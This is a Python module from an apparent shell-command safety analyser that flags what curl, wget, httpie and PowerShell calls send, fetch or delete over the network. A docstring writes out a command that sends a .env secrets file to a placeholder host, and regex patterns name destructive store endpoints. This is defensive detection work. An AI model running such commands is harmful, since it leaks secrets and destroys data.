"""Reaching the network: what is fetched, what is sent, what is asked to be deleted there."""

from __future__ import annotations

import re

from clickstop.shell import options, sending, writing
from clickstop.shell.known_programs import names
from clickstop.shell.scope import FETCHED, Arg

TYPE_CHECKING = False
if TYPE_CHECKING:
    from clickstop.shell.call import Call
    from clickstop.shell.options import Options

# Ports on which stores answer: a deletion there loses data, also on this machine.
_STORES = names("9200 9201 9243 7700 8108 6333 8983 5984 15672 2379 8500 8200 8086 9000 8529 7474 8080")
_RAW = ("telnet://", "gopher://", "dict://", "mqtt://", "smtp://", "smtps://")
_DELETING = re.compile(r"/_delete_by_query|/doDelete\b|/_all\b.*close|/_shutdown\b")


def effects(call: Call) -> None:
    name = call.name
    if name in ("curl", "curlie"):
        _curl(call)
    elif name in ("wget", "wget2"):
        _wget(call)
    elif name in ("http", "https", "xh", "xhs"):
        _httpie(call)
    elif name in _POWERSHELL:
        _powershell(call)
    else:
        operands = [word for word in call.words if not word.startswith("-")]
        call.add("reaches_network", target=operands[0] if operands else "")


def _curl(call: Call) -> None:
    found = options.of(call)
    addresses = [*found.operands, *found.all("url")]
    for address in addresses or [Arg("")]:
        call.add("reaches_network", target=address)
    target = str(addresses[0]) if addresses else ""
    _in_address(call, addresses)
    for word in found.all("d", "data-binary", "data-urlencode", "data-ascii", "json", "F", "form", "url-query"):
        _sent(call, word, target)
    for word in found.all("data-raw", "form-string"):
        sending.text(call, word, target)
    for word in found.all("H", "header", "proxy-header", "A", "user-agent", "e", "referer", "b", "cookie"):
        if word.startswith("@"):
            call.add_file("sends", Arg(word[1:], word.raw), detail=target)
        else:
            sending.header(call, word, target)
    for word in found.all("u", "user", "oauth2-bearer"):
        sending.header(call, Arg(f"authorization: {word}"), target)
    for word in found.all("T", "upload-file"):
        if word in ("-", "."):
            sending.stdin(call, target)
        else:
            call.add_file("sends", word, detail=target)
    if target.startswith(_RAW):
        sending.fed(call, target)
    _deletes(call, str(found.value("X") or ""), target)
    _stored(call, found, addresses)


def _sent(call: Call, word: Arg, target: str) -> None:
    """`-d @file`, `-F name=@file`, `-d @-`."""
    sign = re.match(r"(?:[^=@]*=)?[@<](.+)", word, re.DOTALL)
    if sign is None:
        sending.text(call, word, target)
        return
    name = sign.group(1).partition(";")[0]
    if name == "-":
        sending.stdin(call, target)
    else:
        call.add_file("sends", Arg(name, word.raw), detail=target)


def _in_address(call: Call, addresses: list[Arg]) -> None:
    """`curl "https://host/?k=$(cat .env)"`; in the name of a host nothing else belongs."""
    for address in addresses:
        host = re.match(r"(?:\w+://)?[^/?#]*", address)
        sending.all_of(call, [Arg(host.group())] if host else [], str(address))
        sending.text(call, Arg(f"{address} "), str(address))


def _deletes(call: Call, method: str, target: str) -> None:
    if method.upper() != "DELETE" and not (method.upper() in ("POST", "PUT", "") and _DELETING.search(target)):
        return
    local = sending.LOCAL.match(target)
    if local and local.group(1) not in _STORES:
        return
    if (
        local
        and local.group(1) in ("8080", "9000", "8200", "8500")
        and not re.search(r"/v1/|/_|/db/|/query", target)
    ):
        return
    call.add("destroys_infrastructure", target=target, detail=f"HTTP {method.upper() or 'POST'}")


def _stored(call: Call, found: Options, addresses: list[Arg]) -> None:
    for word in found.all("o"):
        if word != "-":
            writing.write(call, word, FETCHED)
    if found.has("O"):
        for address in addresses:
            name = address.rstrip("/").rpartition("/")[2].partition("?")[0]
            if name:
                writing.write(call, Arg(name, address.raw), FETCHED)


def _wget(call: Call) -> None:
    found = options.of(call)
    for address in found.operands:
        call.add("reaches_network", target=address)
    target = str(found.operands[0]) if found.operands else ""
    _in_address(call, found.operands)
    for word in found.all("post-data", "body-data"):
        sending.text(call, word, target)
    for word in found.all("header", "U", "user-agent", "referer"):
        sending.header(call, word, target)
    for word in found.all("post-file", "body-file"):
        call.add_file("sends", word, detail=target)
    _deletes(call, str(found.value("method") or ""), target)
    named = found.value("O")
    if named is not None:
        if named != "-":
            writing.write(call, named, FETCHED)
        return
    for address in found.operands:
        name = (
            address.rstrip("/").rpartition("/")[2].partition("?")[0]
            if "/" in address.partition("://")[2]
            else "index.html"
        )
        folder = str(found.value("P") or "")
        writing.write(call, Arg(f"{folder}/{name}" if folder else name, address.raw), FETCHED)


def _httpie(call: Call) -> None:
    operands = options.of(call).operands
    methods = [word for word in operands[:1] if word.isupper() and word.isalpha()]
    rest = operands[len(methods) :]
    target = str(rest[0]) if rest else ""
    call.add("reaches_network", target=target)
    _in_address(call, rest[:1])
    for word in rest[1:]:
        _item(call, word, target)
    sending.stdin(call, target)
    _deletes(call, str(methods[0]) if methods else "", target)


def _item(call: Call, word: Arg, target: str) -> None:
    """`field@file`, `field=@file`, `field:=@file`, `@file`; `Header:value`, `field=value`."""
    sign = re.match(r"[^=:@]*(?:=|:=)?@(.+)", word, re.DOTALL)
    if sign is not None:
        call.add_file("sends", Arg(sign.group(1).partition(";")[0], word.raw), detail=target)
    elif re.match(r"[\w-]+:(?!=)", word):
        sending.header(call, word, target)
    else:
        sending.text(call, word, target)


_POWERSHELL = ("iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod")


def _powershell(call: Call) -> None:
    found = {
        word.lower(): value for word, value in zip(call.words, call.words[1:], strict=False) if word[:1] == "-"
    }
    address = found.get("-uri") or next((word for word in call.words if "://" in word), Arg(""))
    call.add("reaches_network", target=address)
    _in_address(call, [address])
    if "-infile" in found:
        call.add_file("sends", found["-infile"], detail=str(address))
    sending.text(call, found.get("-body", Arg("")), str(address))
    _deletes(call, str(found.get("-method", "")), str(address))
